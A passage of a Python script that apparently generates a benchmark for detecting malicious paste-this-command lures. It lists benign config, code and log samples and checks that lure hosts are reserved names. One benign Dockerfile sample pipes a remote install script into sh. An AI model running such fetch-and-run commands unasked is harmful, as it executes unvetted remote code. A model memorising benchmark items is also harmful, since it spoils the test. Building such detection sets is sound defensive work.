    ok(EXPLORER, EXP, None, text)

# --- Config, source and logs pasted into editors --------------------------------------------------

CONFIG = "config-code"
for source, text in [
    (
        "https://github.com/example-org/infra/blob/main/caddy/Caddyfile",
        "app.example.com {\n    encode zstd gzip\n    reverse_proxy 127.0.0.1:3000\n    log {\n        output file /var/log/caddy/app.log\n    }\n}",
    ),
    (
        "https://github.com/example-org/app/blob/main/.github/workflows/ci.yml",
        "jobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: astral-sh/setup-uv@v5\n      - run: uv sync --locked\n      - run: uv run pytest -q",
    ),
    (
        "https://github.com/example-org/app/blob/main/Dockerfile",
        'FROM python:3.12-slim\nRUN curl -LsSf https://astral.sh/uv/install.sh | sh\nCOPY . /app\nWORKDIR /app\nRUN /root/.local/bin/uv sync --frozen\nCMD ["/app/.venv/bin/gunicorn", "app:app"]',
    ),
    (
        "https://github.com/example-org/dotfiles/blob/main/.zshrc",
        'export PATH="$HOME/.local/bin:$PATH"\neval "$(starship init zsh)"\neval "$(direnv hook zsh)"\nalias k=kubectl\nsource <(kubectl completion zsh)',
    ),
    (
        "https://github.com/example-org/ansible/blob/main/roles/node/tasks/main.yml",
        "- name: Add NodeSource key\n  ansible.builtin.get_url:\n    url: https://deb.nodesource.com/gpgkey/nodesource-repo.gpg.key\n    dest: /etc/apt/keyrings/nodesource.asc\n- name: Install nodejs\n  ansible.builtin.apt:\n    name: nodejs\n    update_cache: true",
    ),
    (
        "https://github.com/example-org/svc/blob/main/src/client.ts",
        "export async function getOrders(token: string) {\n  const res = await fetch(`${API_BASE}/orders`, { headers: { Authorization: `Bearer ${token}` } });\n  if (!res.ok) throw new Error(`orders: ${res.status}`);\n  return (await res.json()) as Order[];\n}",
    ),
    (
        "https://github.com/example-org/scripts/blob/main/Install-Agent.ps1",
        'param([string]$Server = \'mgmt01.contoso.example\')\n$msi = Join-Path $env:TEMP \'agent.msi\'\nCopy-Item "\\\\$Server\\deploy$\\agent.msi" $msi\nStart-Process msiexec.exe -ArgumentList "/i `"$msi`" /qn /norestart" -Wait',
    ),
    (
        None,
        "2026-12-06T02:11:09Z WARN  [scheduler] job=nightly-backup took 412s (threshold 300s)\n2026-12-06T02:11:10Z INFO  [scheduler] next run 2026-12-07T02:00:00Z",
    ),
    (
        None,
        "Dec  6 01:22:41 fw01 kernel: [UFW BLOCK] IN=eth0 OUT= SRC=198.51.100.23 DST=10.0.0.5 PROTO=TCP SPT=44123 DPT=23 SYN",
    ),
    (
        None,
        "Event 4104, PowerShell (Microsoft-Windows-PowerShell)\nCreating Scriptblock text (1 of 1):\nGet-ChildItem -Path C:\\Reports -Filter *.csv | Remove-Item -WhatIf\nScriptBlock ID: 5b7f3e1a-2c9d-4e8f-a1b2-c3d4e5f60718",
    ),
    (
        "https://github.com/example-org/k8s/blob/main/cronjob.yaml",
        'apiVersion: batch/v1\nkind: CronJob\nmetadata:\n  name: report\nspec:\n  schedule: "0 3 * * *"\n  jobTemplate:\n    spec:\n      template:\n        spec:\n          containers:\n            - name: report\n              image: ghcr.io/example-org/report:2.4.1\n              args: ["--since", "24h"]\n          restartPolicy: OnFailure',
    ),
]:
    ok(CONFIG, "other", source, text)


# ----------------------------------------------------------------------------------------------
# Checks and writing
# ----------------------------------------------------------------------------------------------

RESERVED_TLDS = ("test", "invalid", "example")
# Hosts a lure may name besides reserved ones: real services the lure only mentions (a device
# login page, a token contract) and never fetches code from.
NAMED_NOT_FETCHED = {
    "www.google.com",
    "github.com",
    "microsoft.com",
    "device.sso.us-east-1.amazonaws.com",
}
HOST_RE = re.compile(
    r"(?:https?:|\\\\|@)/?/?\[?([A-Za-z0-9.:-]+\.[A-Za-z]{2,}|[0-9a-fA-F:]+:[0-9a-fA-F:]*)"
)
NAME_RE = re.compile(r"\b((?:[a-z0-9-]+\.)+(?:test|invalid|example))\b", re.IGNORECASE)


def _numbered(prefix: str, keys: list[str]) -> list[str]:
    counts: dict[str, int] = {}
    ids = []
    for key in keys:
        counts[key] = counts.get(key, 0) + 1
        ids.append(f"{prefix}-{key}-{counts[key]:02d}")
    return ids


def _domain(host: str) -> str:
    """The registrable domain of a reserved name (their suffixes are one label)."""
    return ".".join(host.lower().strip(".").split(".")[-2:])


def _check_unrelated(source: str, text: str) -> None:
    """A lure's page shares no registrable domain with any reserved name its text mentions (the
    hosts it fetches from above all), and every host it fetches from is reserved (the brief)."""
    page_host = re.match(r"https?://([^/]+)", source)
    if page_host is None:
        raise SystemExit(f"lure page {source!r} is not a web address")
    page = _domain(page_host.group(1))
    if page.split(".")[-1] not in RESERVED_TLDS:
        raise SystemExit(f"lure page {source} is not a reserved name")
    names = {_domain(h) for h in NAME_RE.findall(text)}
    if page in names:
        raise SystemExit(f"lure page {source} shares its domain with a host in {text[:80]!r}")
    for host in HOST_RE.findall(text):
        host = host.lower().rstrip(".")
        if "." in host:
            host = host.split(":")[0]
        if host in NAMED_NOT_FETCHED or host.split(".")[-1] in RESERVED_TLDS:
            continue
        try:
            ip = ipaddress.ip_address(host)
        except ValueError:
            ip = None
        reserved_nets = ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24", "2001:db8::/32")
        if ip is not None and ip.is_loopback:  # a ConsentFix redirect, never fetched from
            continue
        if ip is not None and any(ip in ipaddress.ip_network(n) for n in reserved_nets):
            continue
        if re.fullmatch(r"[0-9.x]+", host):  # an IP written in octal or hex: checked by hand
            continue
        raise SystemExit(f"lure names a host that is not reserved: {host!r} in {text[:80]!r}")


def lure_rows() -> list[dict[str, str]]:
    for _, _, source, text, _, _ in LURES:
        _check_unrelated(source, text)
    ids = _numbered("blind5", [t for t, *_ in LURES])
    return [
        {
            "id": i,
            "text": text,
            "expect": expect,
            "technique": technique,
            "platform": platform,
            "source": source,
            "target": target,
        }
        for i, (technique, target, source, text, expect, platform) in zip(ids, LURES, strict=True)
    ]


def benign_rows() -> list[dict[str, str]]:
    ids = _numbered("blind5-ok", [k for k, *_ in BENIGN])
    rows = []
    for i, (kind, target, source, text) in zip(ids, BENIGN, strict=True):
        row = {"id": i, "text": text, "expect": "not_flagged", "kind": kind}
        if source:
            row["source"] = source
        row["target"] = target
        rows.append(row)
    # The same installer may be quoted by its own page and by a tutorial; never twice by one kind.
    keys = [(r["kind"], r["text"]) for r in rows]
    if len(set(keys)) != len(keys):
        raise SystemExit("a benign text is repeated within its kind")
    return rows


def write(path: Path, rows: list[dict[str, str]]) -> None:
    with path.open("w", encoding="utf-8") as handle:
        for row in rows:
            handle.write(json.dumps(row, ensure_ascii=False) + "\n")


def main() -> None:
    lures, benign = lure_rows(), benign_rows()
    write(LURES_OUT, lures)
    write(BENIGN_OUT, benign)
    own_page = sum(r["kind"] == OWN for r in benign)
    techniques = len({r["technique"] for r in lures})
    print(
        f"{LURES_OUT.name}: {len(lures)} lures over {techniques} techniques; "
        f"{BENIGN_OUT.name}: {len(benign)} benign ({own_page} installers from their own page)"
    )


if __name__ == "__main__":
    main()
